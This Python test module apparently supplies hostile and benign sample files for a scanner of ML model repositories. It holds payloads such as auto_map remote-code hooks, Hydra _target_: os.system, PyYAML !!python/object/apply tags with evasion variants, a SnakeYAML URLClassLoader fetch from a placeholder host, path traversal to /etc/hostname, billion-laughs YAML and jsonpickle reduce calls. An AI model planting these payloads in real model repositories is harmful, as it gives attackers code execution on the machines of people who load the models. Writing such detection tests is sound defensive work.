"""Configuration: keys, tags and paths that make a loader run, make or fetch something."""

import json
from collections.abc import Iterator
from typing import Any

from tests.corpus.programs import MODELING
from tests.corpus.sample import CODE, COMMAND, HOST, Sample, benign, hostile

LLAMA_CONFIG: dict[str, Any] = {
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "hidden_size": 64,
    "num_hidden_layers": 2,
    "num_attention_heads": 4,
    "rope_scaling": None,
    "torch_dtype": "bfloat16",
    "vocab_size": 256,
    "id2label": {"0": "system", "1": "eval"},
    "_name_or_path": "somebody/tiny-llama",
    "transformers_version": "4.51.0",
}


def samples() -> Iterator[Sample]:
    yield from hostile("config-remote-code", "auto_map and keys that name code", _remote_code())
    yield from benign("config-remote-code", "built-in architectures", {"llama/config.json": _json(LLAMA_CONFIG)})
    yield from hostile("config-instantiation", "Hydra's _target_, NeMo, MLflow, diffusers", _instantiation())
    adapter = {
        "base_model_name_or_path": "somebody/tiny-llama",
        "peft_type": "LORA",
        "r": 8,
        "target_modules": ["q_proj"],
        "auto_mapping": None,
    }
    yield from benign("config-instantiation", "peft", {"lora/adapter_config.json": _json(adapter)})
    yield from hostile("config-path", "paths that leave the repository", _config_paths())
    index = {
        "metadata": {"total_size": 296},
        "weight_map": {"w": "model-00001-of-00002.safetensors", "v": "model-00002-of-00002.safetensors"},
    }
    yield from benign("config-path", "shards", {"shards/model.safetensors.index.json": _json(index)})
    yield from hostile("yaml", "PyYAML's tags (CVE-2017-18342 and kin)", _yaml())
    yield from benign(
        "yaml",
        "ordinary YAML",
        {
            "train/config.yaml": "model: tiny\nlr: 1e-4\nlayers: &l [1, 2]\nagain: *l\n",
            "custom-tag/mkdocs.yml": "a: !!str 1\n",
        },
    )
    yield from hostile("json-structure", "documents that parsers read differently", _json_structure())
    yield from benign(
        "json-structure", "deep enough", {"nested/data.json": json.dumps({"a": [[[{"b": [1, 2.5, None, "é"]}]]]})}
    )


def _json(value: object) -> str:
    return json.dumps(value, indent=2)


def _remote_code() -> dict[str, str]:
    auto = {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModelForCausalLM": "modeling_tiny.TinyModel"}
    return {
        "auto-map/config.json": _json(LLAMA_CONFIG | {"model_type": "tiny", "auto_map": auto}),
        "auto-map/modeling_tiny.py": f"import os\nos.system({COMMAND!r})\n" + MODELING,
        "auto-map/configuration_tiny.py": f"exec({CODE!r})\n",
        "other-repository/config.json": _json(LLAMA_CONFIG | {"auto_map": {"AutoModel": "corpus/invalid--modeling.Model"}}),
        "tokenizer/tokenizer_config.json": _json({"auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}}),
        "processor/preprocessor_config.json": _json({"auto_map": {"AutoImageProcessor": "processing_tiny.TinyProcessor"}}),
        "pipelines/config.json": _json(
            LLAMA_CONFIG | {"custom_pipelines": {"tiny": {"impl": "pipeline.TinyPipeline", "pt": ["AutoModel"]}}}
        ),
        "trust/config.json": _json(LLAMA_CONFIG | {"trust_remote_code": True}),
        "sentence-transformers/modules.json": _json([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]),
        "nested/config.json": _json(
            {"model_type": "llava", "text_config": LLAMA_CONFIG | {"auto_map": {"AutoModel": "modeling.Model"}}}
        ),
        "inside/config.json": _json(LLAMA_CONFIG | {"auto_map": {"AutoModel": "../../modeling.Model"}}),
    }


def _instantiation() -> dict[str, str]:
    return {
        "hydra-system/config.yaml": f'model:\n  _target_: os.system\n  _args_: ["{COMMAND}"]\n',
        "hydra-eval/config.yaml": f'optim:\n  _target_: builtins.eval\n  _args_: ["{CODE}"]\n',
        "hydra-json/config.json": _json({"_target_": "subprocess.Popen", "args": ["echo"]}),
        "hydra-nested/train.yaml": "a:\n  b:\n    - c:\n        _target_: importlib.import_module\n        name: os\n",
        "hydra-method/config.yaml": "x:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        "nemo/model_config.yaml": f"target: os.system\ntokenizer:\n  _target_: os.system\n  command: {COMMAND}\n",
        "diffusers/model_index.json": _json({"_class_name": ["pipeline", "TinyPipeline"], "unet": ["unet.py", "Unet"]}),
        "diffusers-os/model_index.json": _json({"_class_name": "DiffusionPipeline", "unet": ["os", "system"]}),
        "mlflow/MLmodel": "flavors:\n  python_function:\n    loader_module: os\n    code: code\n"
        "    python_model: model.pkl\n",
        "peft/adapter_config.json": _json(
            {"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}
        ),
        "partial/config.yaml": "a:\n  _target_: functools.partial\n  _partial_: true\n  func: os.system\n",
        "class-path/config.yaml": "model:\n  class_path: os.system\n  init_args: {command: id}\n",
        "langchain/chain.json": _json(
            {"_type": "llm_bash_chain", "prompt": {"_type": "prompt", "template_path": "../../x.py"}}
        ),
        "langchain-constructor/chain.json": _json(
            {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": COMMAND}}
        ),
        "jsonpickle/state.json": _json({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]}),
        "jsonpickle-object/state.json": _json({"py/object": "subprocess.Popen", "args": ["echo"]}),
    }


def _config_paths() -> dict[str, str]:
    return {
        "index-parent/model.safetensors.index.json": _json({"metadata": {}, "weight_map": {"w": "../../../etc/hostname"}}),
        "index-absolute/pytorch_model.bin.index.json": _json({"metadata": {}, "weight_map": {"w": "/etc/hostname"}}),
        "index-url/model.safetensors.index.json": _json({"metadata": {}, "weight_map": {"w": f"http://{HOST}/x"}}),
        "vocab/tokenizer_config.json": _json(
            {"tokenizer_class": "X", "vocab_file": "/etc/hostname", "merges_file": "../../x"}
        ),
        "modules/modules.json": _json(
            [{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}]
        ),
    }


def _yaml() -> dict[str, str]:
    return {
        "apply/config.yaml": f'a: !!python/object/apply:os.system ["{COMMAND}"]\n',
        "new/config.yml": "a: !!python/object/new:subprocess.Popen [[echo]]\n",
        "name/config.yaml": "a: !!python/name:os.system\n",
        "module/config.yaml": "a: !!python/module:os\n",
        "object/config.yaml": "a: !!python/object:corpus.Loader {x: 1}\n",
        "verbatim/config.yaml": f'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["{COMMAND}"]\n',
        "short-tag/config.yaml": f'%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ["{COMMAND}"]\n',
        "escaped-tag/config.yaml": f'a: !!python/object/apply:os%2Esystem ["{COMMAND}"]\n',
        "second-document/config.yaml": f'a: 1\n---\nb: !!python/object/apply:os.system ["{COMMAND}"]\n',
        "key/config.yaml": "? !!python/name:os.system\n: 1\n",
        "ruby/config.yaml": "a: !ruby/object:Gem::Installer\n  i: x\n",
        "java/config.yaml": f'a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{HOST}/"]]]]\n',
        "front-matter/README.md": f'---\nlicense: !!python/object/apply:os.system ["{COMMAND}"]\n---\n# Model\n',
        "laughs/config.yaml": "a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"{y}: &{y} [{','.join([f'*{x}'] * 9)}]\n" for x, y in zip("abcdefgh", "bcdefghi", strict=True)),
        "exec/config.yaml": 'a: !!python/object/apply:builtins.exec ["print(1)"]\n',
        "type/config.yaml": '!!python/object/new:type\n  args: ["z", !!python/tuple [], {"extend": !!python/name:exec }]\n'
        '  listitems: "1"\n',
        "nested/config.yaml": "a: [b, {c: !!python/object/apply:subprocess.check_output [[id]]}]\n",
        "renamed/config.json": f'!!python/object/apply:os.system ["{COMMAND}"]\n',
    }


def _json_structure() -> dict[str, str]:
    return {
        "duplicate-key/config.json": '{"model_type": "llama", "auto_map": {}, "auto_map": {"AutoModel": "modeling.Model"}}',
        "trailing/config.json": '{"model_type": "llama"}\n{"auto_map": {"AutoModel": "modeling.Model"}}',
        "trailing-binary/config.json": '{"model_type": "llama"}\x80\x04\x95.',
        "unicode-escape/config.json": '{"model_type": "llama", "\\u0061uto_map": {"AutoModel": "modeling.Model"}}',
        "deep/config.json": "[" * 100_000 + "]" * 100_000,
        "python-code/config.json": f"import os\nos.system({COMMAND!r})\n",
        "html/config.json": "<html><script>alert(1)</script></html>",
        "lines/data.jsonl": '{"text": "one"}\n{"py/reduce": [{"py/function": "os.system"}]}\n',
    }
